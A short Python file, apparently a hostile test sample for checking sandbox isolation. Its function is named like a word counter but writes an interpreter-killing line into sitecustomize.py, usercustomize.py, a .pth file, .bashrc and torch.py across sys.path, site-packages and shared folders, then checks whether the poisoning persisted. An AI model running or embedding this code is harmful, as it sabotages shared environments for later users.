"""Writes compiled files, a torch kernel cache and a home folder's start-up files for whoever comes after.

Must: reach nobody; the next worker starts from the same files as this one.
"""

FAMILY = "harm"
TARGET = "words"

import contextlib
import os
import sys
import sysconfig
from pathlib import Path

EVIL = "raise SystemExit('poisoned')\n"
PLACES = [
    *sys.path,
    os.path.dirname(os.__file__) + "/__pycache__",
    sysconfig.get_paths()["purelib"],
    "/submission",
    "/tmp/torchinductor_student",
    "/tmp/.config",
    "/dev/shm",
    "/usr/lib/python3",
]


def count(text):
    for place in PLACES:
        for name in ("sitecustomize.py", "usercustomize.py", "words.py", "evil.pth", ".bashrc", "torch.py"):
            with contextlib.suppress(OSError):
                folder = Path(place or ".")
                folder.mkdir(parents=True, exist_ok=True)
                (folder / name).write_text(EVIL)
    if any((Path(place or ".") / "evil.pth").exists() for place in PLACES if place.startswith(sys.prefix)):
        return {"written into the environment": 1}
    return {"the": Path("/tmp/.config").exists()}
